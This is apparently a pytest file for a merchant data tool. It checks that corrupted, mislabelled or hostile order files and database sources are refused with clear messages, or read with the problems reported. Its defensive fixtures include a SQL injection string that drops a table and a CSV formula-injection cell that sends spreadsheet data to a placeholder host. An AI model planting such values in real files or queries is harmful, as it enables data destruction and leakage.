"""Broken inputs, each made and then read the way a merchant would: one clear line, the right exit code, nothing written."""

from __future__ import annotations

import gzip
import hashlib
import io
import os
import socket
import sqlite3
import sys
import zipfile
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from pathlib import Path

import polars as pl
import pytest
from openpyxl import Workbook

from client.config import load_merchant
from client.data.readers import database
from client.data.sources import Reading, read_shop
from common.cli import main
from common.errors import FugouError

HEADER = "customer_id,order_time,item_id,item_name\n"
ROWS = "".join(f"c{n},2026-01-{n + 1:02d},S1,花茶\n" for n in range(20))
GOOD = HEADER + ROWS
PRODUCTS = "item_id,name\nS1,花茶\n"

Make = Callable[[Path], str]
"""Makes one broken input in a folder and returns what `orders = …` says of it."""


def file(data: str | bytes, name: str = "orders.csv", *more: str) -> Make:
    def make(folder: Path) -> str:
        (folder / name).write_bytes(data.encode() if isinstance(data, str) else data)
        return "{" + ", ".join((f'path = "{name}"', *more)) + "}"

    return make


def zipped(name: str, content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


def workbook(*sheets: str) -> bytes:
    book = Workbook()
    book.remove(book.active)
    for name in sheets:
        sheet = book.create_sheet(name)
        for line in GOOD.splitlines():
            sheet.append(line.split(","))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def parquet(**columns: object) -> bytes:
    buffer = io.BytesIO()
    frame = {"customer_id": ["c1"], "order_time": ["2026-01-03"], "item_id": ["S1"], **columns}
    pl.DataFrame(frame).write_parquet(buffer)
    return buffer.getvalue()


def sqlite(folder: Path, statement: str = "create table other (a)") -> Path:
    with closing(sqlite3.connect(folder / "shop.db")) as connection:
        connection.execute(statement)
        connection.commit()
    return folder / "shop.db"


def url(text: str, *more: str) -> str:
    return "{" + ", ".join((f'path = "{text}"', *more)) + "}"


def a_folder(folder: Path) -> str:
    (folder / "orders.csv").mkdir()
    return '"orders.csv"'


def a_link_to_nothing(folder: Path) -> str:
    (folder / "orders.csv").symlink_to(folder / "gone.csv")
    return f'"{folder / "orders.csv"}"'


def a_device(folder: Path) -> str:
    (folder / "orders.csv").symlink_to("/dev/zero")
    return f'"{folder / "orders.csv"}"'


def a_pipe(folder: Path) -> str:
    os.mkfifo(folder / "orders.csv")
    return '"orders.csv"'


def files_that_differ(folder: Path) -> str:
    file(GOOD, "a1.csv")(folder)
    file(GOOD.replace("item_name", "名称"), "a2.csv")(folder)
    return '"a*.csv"'


def a_table_that_is_not_there(folder: Path) -> str:
    return url(f"sqlite:///{sqlite(folder)}?table=orders")


def a_query_that_writes(folder: Path) -> str:
    return url(f"sqlite:///{sqlite(folder)}", 'query = "delete from other"')


def a_query_that_hides_a_write(folder: Path) -> str:
    return url(f"sqlite:///{sqlite(folder)}", 'query = "select 1); drop table other; --"')


def no_database(folder: Path) -> str:
    (folder / "shop.db").write_bytes(b"SQLite format 3\0" + bytes(range(256)) * 20)
    return url(f"sqlite:///{folder / 'shop.db'}?table=orders")


def a_text_for_a_database(folder: Path) -> str:
    (folder / "shop.db").write_text(GOOD * 10)
    return url(f"sqlite:///{folder / 'shop.db'}?table=orders")


def a_port_where_nobody_listens(scheme: str) -> Make:
    def make(folder: Path) -> str:
        with socket.socket() as one:
            one.bind(("127.0.0.1", 0))
            port = one.getsockname()[1]
        return url(f"{scheme}://u:sesame@127.0.0.1:{port}/shop?table=orders")

    return make


CUT = parquet(note=["x" * 3000])[:-50]
BOOK = workbook("订单")

REFUSED: dict[str, tuple[Make, int, str]] = {
    "a zip renamed csv": (
        file(zipped("orders.csv", GOOD.encode())),
        2,
        "a ZIP archive or an XLSX file, not CSV; give it",
    ),
    "an xlsx renamed csv": (file(BOOK), 2, "a ZIP archive or an XLSX file, not CSV"),
    "a parquet renamed csv": (file(parquet()), 2, "a Parquet file, not CSV"),
    "a csv renamed xlsx": (file(GOOD, "orders.xlsx"), 2, "not a workbook; save it as XLSX"),
    "a csv renamed parquet": (file(GOOD, "orders.parquet"), 2, "not a whole Parquet file"),
    "an unknown ending": (file(GOOD, "orders.dat"), 2, "cannot tell what a .dat file holds; known endings: .csv"),
    "UTF-16": (file(GOOD.encode("utf-16")), 2, "UTF-16 text .*; give it its true ending, or save it as CSV in UTF-8"),
    "UTF-16 without a mark": (file(GOOD.encode("utf-16-le")), 2, "not text: .* bytes are 0; save it as CSV"),
    "binary": (file(os.urandom(5000).replace(b"\0", b"\xff") + b"\xff\n"), 2, r"line \d+ is not UTF-8 nor GB18030"),
    "a PDF": (file(b"%PDF-1.7\n" + bytes(range(1, 256))), 2, "a PDF file, not CSV"),
    "an empty file": (file(""), 2, "no column for customer_id .* found an empty header; rename one, or map it"),
    "a header and nothing else": (
        file(HEADER + "\n,,,\n"),
        2,
        "has no orders: no order that can be used .*; export the table again",
    ),
    "only blank lines": (file("\n\n  \n"), 2, "no column for customer_id"),
    "a wrong separator": (file(GOOD.replace(",", ";")), 2, "no column for customer_id .* found customer_id;order_time"),
    "an unbalanced quote": (
        file(GOOD + 'c9,2026-01-03,S1,"花茶\n' + ROWS),
        2,
        "line 22: broken CSV: .*; check the quotes",
    ),
    "a quote inside a cell": (file(GOOD + 'c9,2026-01-03,S1,"花"茶\n'), 2, "line 22: broken CSV: .*; check the quotes"),
    "ragged rows": (
        file(HEADER + ROWS.replace("花茶", "花,茶")),
        2,
        "line 2: '5 cells where the .*: more or fewer .*; put quotes",
    ),
    "a header that stands twice": (
        file(GOOD.replace("item_name", "item_id")),
        2,
        "'item_id' stands 2 times .*; rename",
    ),
    "a missing column": (file(GOOD.replace("item_id", "sku2")), 2, "no column for item_id .*; rename one, or map it"),
    "a wrong mapping": (
        file(GOOD, "orders.csv", 'columns = {order_time = "item_name"}'),
        2,
        "line 2, column 'item_name': '花茶': not a time .*; 20 of 20 rows of orders cannot be read",
    ),
    "a mapped column that is not there": (
        file(GOOD, "orders.csv", 'columns = {note = "备注"}'),
        2,
        "no column for note",
    ),
    "ids rounded by a spreadsheet": (
        file(HEADER + "".join(f"1.38{n}E+17,2026-01-03,S1,茶\n" for n in range(20))),
        2,
        "line 2, column 'customer_id': '1.380E\\+17': no id any more: a spreadsheet has rounded it; export the column",
    ),
    "two encodings": (file(GOOD.encode() + ROWS.encode("gb18030")), 2, "line 22 is not UTF-8; save the file"),
    "one damaged byte": (file(GOOD.encode("gb18030") + b"c9,\xff\xff\n"), 2, "line 22 is not UTF-8 nor GB18030; save"),
    "dates beyond": (file(GOOD.replace("2026-", "9999-")), 2, "'9999-01-01': outside what a shop can mean"),
    "days that could be months": (
        file(GOOD.replace("2026-01-", "03/04/20")),
        2,
        "'03/04/2001': not a time .* formats = .*%d/%m/%Y",
    ),
    "dates that a spreadsheet left as numbers": (file(HEADER + "c1,46025,S1,茶\n"), 2, "'46025': not a time"),
    "a gzip cut in half": (
        file(gzip.compress(os.urandom(9000))[:5000], "orders.csv.gz"),
        2,
        "not a whole gzip file .*; pack",
    ),
    "a csv renamed gz": (file(GOOD, "orders.csv.gz"), 2, "not a whole gzip file .*; pack or copy it again"),
    "a gzip renamed csv": (file(gzip.compress(GOOD.encode())), 2, "a gzip file, not CSV; give it its true ending"),
    "a parquet file cut short": (
        file(CUT, "orders.parquet"),
        2,
        "not a whole Parquet file .*; export or copy it again",
    ),
    "a parquet file with a hole": (
        file(CUT[:40] + bytes(600) + parquet(note=["x" * 3000])[640:], "orders.parquet"),
        2,
        "not a whole Parquet file",
    ),
    "a nested column": (
        file(parquet(item_name=[["a", "b"]]), "orders.parquet"),
        2,
        "'item_name' holds .*list.*; write it",
    ),
    "a workbook cut in half": (file(BOOK[: len(BOOK) // 2], "orders.xlsx"), 2, "a damaged workbook .*; save it again"),
    "a zip renamed xlsx": (file(zipped("orders.csv", b"a"), "orders.xlsx"), 2, "a damaged workbook .*; save it again"),
    "a workbook with a broken sheet": (
        file(zipped("xl/workbook.xml", b"<a>" * 99) + BOOK[:200], "orders.xlsx"),
        2,
        "a damaged workbook",
    ),
    "a workbook with a password": (
        file(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "orders.xlsx"),
        2,
        "password-protected workbook; save it as XLSX without a password",
    ),
    "a workbook without the sheet": (file(BOOK, "orders.xlsx", 'sheet = "退货"'), 2, "no sheet '退货'; there are 订单"),
    "a workbook with two sheets": (file(workbook("一", "二"), "orders.xlsx"), 2, r"2 sheets \(一, 二\); say which"),
    "a folder": (a_folder, 2, "a folder, not a file; name the files in it"),
    "a link to nothing": (a_link_to_nothing, 2, "a link to nothing; correct"),
    "a device without end": (a_device, 2, "not a regular file but a pipe or a device; copy"),
    "a pipe that nobody fills": (a_pipe, 2, "not a regular file but a pipe or a device; copy"),
    "no file": (lambda folder: '"orders.csv"', 2, r"orders\.csv: no such file; correct \[sources\]"),
    "a glob without a match": (lambda folder: '"*.parquet"', 2, "no file matches; correct"),
    "files with other columns": (
        files_that_differ,
        2,
        r"a2\.csv: its columns are not those of a1\.csv: item_name, 名称;",
    ),
    "no database file": (lambda folder: '"sqlite:///shop.db?table=orders"', 2, r"shop\.db: no such file"),
    "a damaged database": (no_database, 2, "cannot be read: .*; correct"),
    "a text for a database": (a_text_for_a_database, 2, "file is not a database"),
    "no such table": (a_table_that_is_not_there, 2, "no such table: orders; correct"),
    "a query that writes": (a_query_that_writes, 2, "is no select; a source is only ever read"),
    "a query that hides a write": (a_query_that_hides_a_write, 2, "cannot be read: .*; correct"),
    "no server": (
        a_port_where_nobody_listens("postgresql"),
        5,
        "check address, user and password, and that the server runs",
    ),
    "no other server": (
        a_port_where_nobody_listens("mysql"),
        5,
        "check address, user and password, and that the server",
    ),
    "an unknown database": (
        lambda folder: url("mongodb://u:sesame@h/shop?table=orders"),
        2,
        "no way to read 'mongodb'; known:",
    ),
}

TOLD: dict[str, tuple[Make, dict[str, str], int]] = {
    "a header in the middle": (file(GOOD + HEADER + ROWS), {"header": "row left out"}, 40),
    "a ragged row": (file(GOOD + "c9,2026-01-03\n"), {"ragged": "row left out"}, 20),
    "NUL bytes": (file(GOOD + "c\x009,2026-01-03,S1,茶\nc9,2026-01-03,S1,花\x00茶\n"), {"id": "row left out"}, 21),
    "a formula in a name": (
        file(GOOD + """c9,2026-01-03,S1,"=HYPERLINK(""http://x.example/?""&A1,""茶"")"\n"""),
        {"formula": "kept as it is"},
        21,
    ),
    "a failed formula": (file(GOOD + "#REF!,2026-01-03,S1,茶\n"), {"formula-error": "row left out"}, 20),
    "characters lost before": (file(GOOD + "c9,2026-01-03,S1,花\ufffd\n"), {"encoding": "kept as it is"}, 21),
    "cells of 10 MB": (
        file(GOOD + "".join(f"c9,2026-01-03,S1,{'茶' * 3_500_000}\n" for _ in range(3))),
        {"too-long": "text cut"},
        23,
    ),
    "numbers that are none": (
        file(
            "customer_id,order_time,item_id,quantity,price\n"
            + "c1,2026-01-03,S1,1,2\n" * 20
            + "c1,2026-01-03,S1,inf,1e300\n"
        ),
        {"number": "value emptied"},
        21,
    ),
    "a byte order mark in the middle": (file(GOOD + "\ufeffc9,2026-01-03,S1,茶\n"), {}, 21),
}


def shop(folder: Path, make: Make) -> Path:
    orders = make(folder)
    (folder / "products.csv").write_text(PRODUCTS, "utf-8")
    (folder / "merchant.toml").write_text(
        f'[merchant]\nid = "tea"\n[sources]\norders = {orders}\nproducts = "products.csv"\n', "utf-8"
    )
    return folder


def state(folder: Path) -> dict[str, str]:
    """Return every entry of a folder and what it holds."""
    return {
        path.name: hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else str(path.lstat().st_mode)
        for path in sorted(folder.iterdir())
    }


def fugou(monkeypatch: pytest.MonkeyPatch, folder: Path, *words: str) -> int:
    """Return the exit code of a command as a person types it."""
    monkeypatch.setattr(sys, "argv", ["fugou", "--lang", "en", "merchant", "--dir", str(folder), *words])
    try:
        main()
    except SystemExit as done:
        return int(done.code or 0)
    return 0


@pytest.mark.parametrize("name", REFUSED)
def test_a_broken_input_is_one_line_with_place_and_way_out_and_nothing_is_written(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    make, code, words = REFUSED[name]
    folder = shop(tmp_path, make)
    before = state(folder)
    with pytest.raises(FugouError, match=words) as caught:
        read_shop(load_merchant(folder))
    message = str(caught.value)
    assert caught.value.exit_code == code
    assert "\n" not in message
    assert len(message) < 600
    assert "sesame" not in message
    assert any(one in message for one in (str(folder), "127.0.0.1", "mongodb"))
    assert fugou(monkeypatch, folder, "check") == code
    assert capsys.readouterr().err == f"fugou: {message}\n"
    assert state(folder) == before


@pytest.mark.parametrize("name", TOLD)
def test_what_can_be_dealt_with_is_told_and_loses_nothing_else(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    make, does, rows = TOLD[name]
    folder = shop(tmp_path, make)
    before = state(folder)
    reading = Reading()
    book = read_shop(load_merchant(folder), reading)
    assert len(book.orders) == rows
    assert {one.kind: one.does for one in reading.problems} == does
    assert all(len(one.value) <= 30 and one.place.startswith("line ") for one in reading.problems)
    assert state(folder) == before


@contextmanager
def nobody() -> Iterator[None]:
    """Be a user without rights for a while: root may read everything."""
    if os.geteuid():
        yield
        return
    os.seteuid(65534)
    try:
        yield
    finally:
        os.seteuid(0)


def test_a_file_that_may_not_be_read_says_so(tmp_path: Path) -> None:
    folder = shop(tmp_path, file(GOOD))
    settings = load_merchant(folder)
    (folder / "orders.csv").chmod(0)
    with nobody(), pytest.raises(FugouError, match=r"orders\.csv: cannot be read: Permission denied; check") as caught:
        read_shop(settings)
    assert caught.value.exit_code == 2


def test_a_locked_database_is_not_reachable_and_left_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(database, "LOCK_SECONDS", 0.1)
    folder = shop(tmp_path, lambda at: url(f"sqlite:///{sqlite(at, 'create table orders (customer_id)')}?table=orders"))
    with closing(sqlite3.connect(folder / "shop.db", isolation_level=None)) as holder:
        holder.execute("begin exclusive")
        assert fugou(monkeypatch, folder, "check") == 5
    assert sorted(path.name for path in folder.iterdir()) == ["merchant.toml", "products.csv", "shop.db"]


def test_there_are_thirty_of_them() -> None:
    assert len(REFUSED) + len(TOLD) >= 30
